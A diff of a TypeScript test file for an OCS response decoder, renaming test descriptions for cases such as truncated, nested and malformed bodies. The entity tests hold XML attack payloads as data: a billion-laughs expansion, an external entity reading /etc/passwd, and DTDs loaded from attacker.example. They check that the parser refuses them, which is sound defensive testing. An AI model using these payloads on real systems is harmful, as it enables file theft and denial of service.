@@ -29,8 +29,8 @@ const xmlWith = (data: string, before = ''): string =>
   `<?xml version="1.0"?>\n${before}<ocs><meta><status>ok</status><statuscode>100</statuscode></meta>${data}</ocs>\n`;
 const jsonWith = (data: string): string => `{"ocs":{"meta":{"status":"ok","statuscode":100},"data":${data}}}`;
 
-describe('The envelope', () => {
-  it('is told by its content, whatever its type is said to be, with a byte order mark or without', () => {
+describe('decodeEnvelope', () => {
+  it('detects the format from the content, whatever the content type, with or without a byte order mark', () => {
     for (const format of formats) {
       const body = `\uFEFF\n${writeBody(format, ['a'])}`;
       for (const contentType of [undefined, 'text/xml', 'application/json; charset=utf-8']) {
@@ -40,7 +40,7 @@ describe('The envelope', () => {
     }
   });
 
-  it('gives the message as plain text, however often it was escaped', () => {
+  it('returns the message as plain text, however often it was escaped', () => {
     const message = (text: string): string =>
       decodeEnvelope(xmlWith('<data/>').replace('</meta>', `<message>${text}</message></meta>`), undefined)
         .meta.message;
@@ -50,19 +50,19 @@ describe('The envelope', () => {
     assert.equal(decodeEnvelope(jsonWith('[]'), undefined).meta.message, '');
   });
 
-  it('keeps white space and the order of children in XML, and decodes references once', () => {
+  it('keeps whitespace and the order of children in XML, and decodes references once', () => {
     const data = '<data>\n <element> lead</element><b>&amp;lt;&#10;&lt;</b>\n <element>  </element></data>';
     assert.deepEqual(decodeIds(dataOf(xmlWith(data), 'xml')), [' lead', '&lt;\n<', '  ']);
   });
 });
 
-describe('A body that is no answer', () => {
+describe('decodeEnvelope with a body that is not an answer', () => {
   const cases: [what: string, body: string, sentence: string, contentType?: string][] = [
     ['nothing', '', sentences.empty],
-    ['only white space', ' \n', sentences.empty],
+    ['only whitespace', ' \n', sentences.empty],
     ['a web page', '<!DOCTYPE html>\n<html><head></head></html>', sentences.webPage],
     ['a web page without a type', '<html class="ng-csp">', sentences.webPage],
-    ['what is said to be a web page', 'Bad gateway', sentences.webPage, 'text/html'],
+    ['text declared as a web page', 'Bad gateway', sentences.webPage, 'text/html'],
     ['plain text', 'ok', 'The server sent text/plain instead of data.', 'text/plain; charset=utf-8'],
     ['text before JSON that PHP does not print', 'Hello {"ocs":[]}', sentences.damaged, 'application/json'],
     ['a page that quotes an answer', `<html><p>${jsonWith('[]')}</p></html>`, sentences.webPage],
@@ -83,7 +83,8 @@ describe('A body that is no answer', () => {
     ['a bare ampersand', xmlWith('<data>a & b</data>'), sentences.damaged],
   ];
   for (const [what, body, sentence, contentType] of cases) {
-    it(`is refused in words: ${what}`, () => assert.equal(refusalOf(body, contentType), sentence));
+    it(`refuses it with a sentence of its own: ${what}`, () =>
+      assert.equal(refusalOf(body, contentType), sentence));
   }
 
   const warning =
@@ -91,22 +92,22 @@ describe('A body that is no answer', () => {
   const printed: [what: string, body: string][] = [
     ['HTML before JSON', `${warning}${jsonWith('["a"]')}`],
     ['text before JSON', `\nWarning: Undefined array key "x" in /srv/x.php on line 3\n${jsonWith('["a"]')}`],
-    ['several before JSON', `${warning.repeat(5)}${jsonWith('["a"]')}`],
-    ['behind JSON', `${jsonWith('["a"]')}${warning}`],
-    ['before XML', `${warning}${xmlWith('<data><element>a</element></data>')}`],
+    ['several messages before JSON', `${warning.repeat(5)}${jsonWith('["a"]')}`],
+    ['HTML after JSON', `${jsonWith('["a"]')}${warning}`],
+    ['HTML before XML', `${warning}${xmlWith('<data><element>a</element></data>')}`],
   ];
   for (const [what, body] of printed)
-    it(`is read where PHP printed a message into it: ${what}`, () => {
+    it(`ignores messages that PHP printed: ${what}`, () => {
       const envelope = decodeEnvelope(body, 'text/html; charset=utf-8');
       assert.equal(envelope.hasPhpMessages, true);
       assert.deepEqual(decodeIds(envelope.data), ['a']);
     });
 
-  it('is refused when its bytes are no UTF-8', () => {
+  it('refuses bytes that are not UTF-8', () => {
     assert.equal(refusalOf(Buffer.from(jsonWith('["Gr\u00fc\u00dfe"]'), 'latin1')), sentences.damaged);
   });
 
-  it('is refused when the status is no status', () => {
+  it('refuses a missing or invalid status', () => {
     assert.match(
       refusalOf('{"ocs":{"meta":{"status":"ok"},"data":[]}}'),
       /at ocs\.meta\.statuscode expected/,
@@ -119,10 +120,10 @@ describe('A body that is no answer', () => {
   });
 });
 
-describe('A body that was cut off', () => {
+describe('decodeEnvelope with a truncated body', () => {
   const user = { id: 'grüße', enabled: true, groups: ['a & b', '☂'], quota: { quota: -3 }, email: null };
   for (const format of formats) {
-    it(`is refused wherever it was cut, in ${format}`, () => {
+    it(`refuses ${format} wherever it is cut`, () => {
       const body = new TextEncoder().encode(writeBody(format, user).trim());
       for (let length = 0; length < body.length; length++) {
         assert.ok(
@@ -135,38 +136,38 @@ describe('A body that was cut off', () => {
   }
 });
 
-describe('Entities', () => {
+describe('decodeEnvelope with XML entities', () => {
   const laughs = Array.from(
     { length: 10 },
     (_, index) => `<!ENTITY e${index + 1} "${`&e${index};`.repeat(10)}">`,
   );
   const doctypes = {
-    'that multiply': `<!DOCTYPE ocs [<!ENTITY e0 "ha">${laughs.join('')}]>`,
-    'of a large text': `<!DOCTYPE ocs [<!ENTITY e10 "${'ha'.repeat(50_000)}">]>`,
-    'of a file': '<!DOCTYPE ocs [<!ENTITY e10 SYSTEM "file:///etc/passwd">]>',
-    'of another host': '<!DOCTYPE ocs SYSTEM "http://attacker.example/ocs.dtd">',
-    'of parameters': '<!DOCTYPE ocs [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
-    'that stand for themselves': '<!DOCTYPE ocs [<!ENTITY amp "x">]>',
+    'that expand exponentially': `<!DOCTYPE ocs [<!ENTITY e0 "ha">${laughs.join('')}]>`,
+    'with a large text': `<!DOCTYPE ocs [<!ENTITY e10 "${'ha'.repeat(50_000)}">]>`,
+    'that load a file': '<!DOCTYPE ocs [<!ENTITY e10 SYSTEM "file:///etc/passwd">]>',
+    'that load from another host': '<!DOCTYPE ocs SYSTEM "http://attacker.example/ocs.dtd">',
+    'in parameters': '<!DOCTYPE ocs [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
+    'that redefine standard ones': '<!DOCTYPE ocs [<!ENTITY amp "x">]>',
   };
   for (const [what, doctype] of Object.entries(doctypes)) {
-    it(`${what} are refused`, () => {
+    it(`refuses entities ${what}`, () => {
       assert.equal(refusalOf(xmlWith(`<data>${'&e10;'.repeat(1000)}</data>`, doctype)), sentences.damaged);
       assert.equal(refusalOf(xmlWith('<data/>', doctype)), sentences.damaged);
     });
   }
 });
 
-describe('Deep nesting', () => {
+describe('deeply nested bodies', () => {
   const nested = (depth: number): string => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
 
-  it('is refused in XML', () => {
+  it('are refused in XML', () => {
     assert.equal(
       refusalOf(xmlWith(`<data>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</data>`)),
       sentences.damaged,
     );
   });
 
-  it('is refused in JSON where the client passes on what it does not know', () => {
+  it('are refused in JSON that the client passes on as it is', () => {
     for (const depth of [200, 100_000]) {
       const version = '"version":{"major":35,"minor":0,"micro":0,"string":"35"}';
       const capabilities = dataOf(jsonWith(`{${version},"capabilities":${nested(depth)}}`));
@@ -182,17 +183,17 @@ describe('Deep nesting', () => {
     }
   });
 
-  it('is refused in JSON with keys of digits', () => {
+  it('are refused in JSON with numeric keys', () => {
     assert.equal(refusalOf(jsonWith(`{"7":${nested(100_000)}}`)), sentences.damaged);
   });
 
-  it('does no harm where it is not looked at', () => {
+  it('do no harm in parts that are not read', () => {
     assert.deepEqual(decodeUser(dataOf(jsonWith(`{"id":"a","x":${nested(100_000)}}`))), { userId: 'a' });
     assert.deepEqual(decodeUser(sent({ id: 'a', x: { y: [] } })), { userId: 'a' });
   });
 });
 
-describe('Large bodies', () => {
+describe('large bodies', () => {
   const MIB = 1024 * 1024;
   const json = '{"ocs":[';
   const xml = '<?xml version="1.0"?><ocs><data>';
